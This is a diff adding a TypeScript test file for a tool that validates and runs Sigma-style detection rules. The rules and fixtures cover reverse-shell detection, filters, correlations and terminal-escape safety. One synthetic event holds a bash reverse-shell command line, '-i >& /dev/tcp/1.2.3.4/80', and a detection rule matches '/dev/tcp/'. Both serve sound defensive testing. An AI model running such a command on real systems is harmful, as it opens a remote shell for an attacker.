@@ -1,0 +1,126 @@
+import assert from 'node:assert/strict'
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { after, describe, it } from 'node:test'
+import { runTetra } from '../../testing/run-tetra.ts'
+
+const folder = mkdtempSync(join(tmpdir(), 'rules-'))
+after(() => rmSync(folder, { recursive: true }))
+
+function file(name: string, text: string): string {
+  const path = join(folder, name)
+  writeFileSync(path, text)
+  return path
+}
+
+const logsource = 'logsource: {product: linux, category: process_creation}'
+const id = '5a6f2b10-3f0a-4ed5-9d3e-111111111111'
+const good = file(
+  'good.yml',
+  `title: Reverse Shell
+id: ${id}
+level: high
+tags: [attack.t1059.004]
+${logsource}
+detection:
+  shell: {Image|endswith: /bash, CommandLine|contains: /dev/tcp/}
+  condition: shell
+---
+title: Our Backup
+${logsource}
+filter:
+  rules: [${id}]
+  backup: {CurrentDirectory: /srv/backup}
+  condition: not backup
+---
+title: Two Shells
+correlation:
+  type: event_count
+  rules: [${id}]
+  group-by: [ParentProcessGuid]
+  timespan: 1m
+  generate: true
+  condition: {gte: 2}
+`,
+)
+
+function exec(second: number, cwd: string): string {
+  const process = {
+    ...{ exec_id: `x${second}`, binary: '/bin/bash', cwd },
+    arguments: '-i >& /dev/tcp/1.2.3.4/80',
+  }
+  const time = `2026-01-01T00:00:0${second}Z`
+  return `${JSON.stringify({ process_exec: { process, parent: { exec_id: 'p' } }, time })}\n`
+}
+
+describe('tetra rules', () => {
+  it('check shows errors with positions', async () => {
+    const bad = file(
+      'bad.yml',
+      `title: a\n${logsource}\ndetection:\n  a: {Imge: x}\n  condition: a\n`,
+    )
+    const { out, err, code } = await runTetra(['rules', 'check', bad])
+    assert.equal(code, 1)
+    assert.match(
+      out,
+      /bad\.yml:4:7: error: process_creation has no field "Imge"; did you mean "Image"/,
+    )
+    assert.match(err, /^0 rules and 0 correlations are right, 1 errors/)
+    assert.equal((await runTetra(['rules', 'check', good])).code, 0)
+  })
+
+  it('check refuses a huge file without reading it', async () => {
+    const huge = file('huge.yml', 'a'.repeat(33 * 1024 * 1024))
+    const { err, code } = await runTetra(['rules', 'check', huge])
+    assert.equal(code, 1)
+    assert.match(err, /read rules: .*huge\.yml is larger than 32 MiB/)
+  })
+
+  it('test prints findings of recorded events, and counts what filters except', async () => {
+    const events = exec(1, '/') + exec(2, '/srv/backup') + exec(3, '/')
+    const { out, err, code } = await runTetra(['rules', 'test', good], events)
+    assert.equal(code, 0)
+    assert.equal(out.match(/high Reverse Shell T1059\.004/g)?.length, 2)
+    assert.match(out, /CommandLine: \/bin\/bash -i >& \[\/dev\/tcp\/\]1\.2\.3\.4\/80/)
+    assert.match(out, /Two Shells\n {2}2 matches of ParentProcessGuid p\n/)
+    assert.match(err, /^3 events, 3 findings of 2 rules, 1 excepted by filters/)
+    const all = await runTetra(['rules', 'test', good, '--excepted'], events)
+    assert.match(all.out, /excepted by Our Backup/)
+  })
+
+  it('test selects levels and prints JSON', async () => {
+    const args = ['rules', 'test', good, '--min-level', 'high', '-o', 'json']
+    const lines = (await runTetra(args, exec(1, '/') + exec(3, '/'))).out.trim().split('\n')
+    const parsed = lines.map((line) => JSON.parse(line))
+    assert.deepEqual(
+      parsed.map(({ title }) => title),
+      ['Reverse Shell', 'Reverse Shell'],
+    )
+    assert.deepEqual(parsed[0].techniques, ['T1059.004'])
+    assert.deepEqual(parsed[0].fields[1].range, [16, 25])
+  })
+
+  it('texts of events do not control the terminal', async () => {
+    const event = exec(1, '/').replace('-i', '\\u001b[2J')
+    const { out } = await runTetra(['rules', 'test', good], event)
+    assert.doesNotMatch(out, /\x1b/)
+  })
+
+  it('list, show, explain and fields', async () => {
+    const list = await runTetra(['rules', 'list', good])
+    assert.match(list.out, /high +T1059\.004 +process_creation +1 +Reverse Shell\n/)
+    const show = await runTetra(['rules', 'show', id, good])
+    assert.match(show.out, /filter Our Backup:\n {2}not\n {4}CurrentDirectory is "\/srv\/backup"/)
+    const explain = await runTetra(['rules', 'explain', 'reverse shell', good])
+    assert.match(
+      explain.out,
+      /only if one of these is found\n {4}CommandLine is "\*\/dev\/tcp\/\*"\n$/,
+    )
+    const fields = await runTetra(['rules', 'fields', 'file_event'])
+    assert.match(fields.out, /TargetFilename +text +path of the file/)
+    const unknown = await runTetra(['rules', 'show', 'reverse shall', good])
+    assert.equal(unknown.code, 2)
+    assert.match(unknown.err, /did you mean "Reverse Shell"\?/)
+  })
+})
